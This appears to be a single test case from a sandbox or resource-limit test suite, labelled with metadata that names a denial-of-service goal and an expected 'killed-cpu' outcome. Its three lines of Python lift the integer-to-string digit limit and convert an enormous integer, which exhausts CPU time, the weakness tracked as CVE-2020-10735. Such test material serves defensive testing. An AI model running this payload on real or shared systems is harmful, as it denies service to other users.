# escape: 052
# technique: quadratic int -> str after lifting the digits limit
# family: dos
# goal: dos-cpu
# expect: killed-cpu
# first-seen: CVE-2020-10735
import sys
sys.set_int_max_str_digits(0)
str(1 << 60000000)
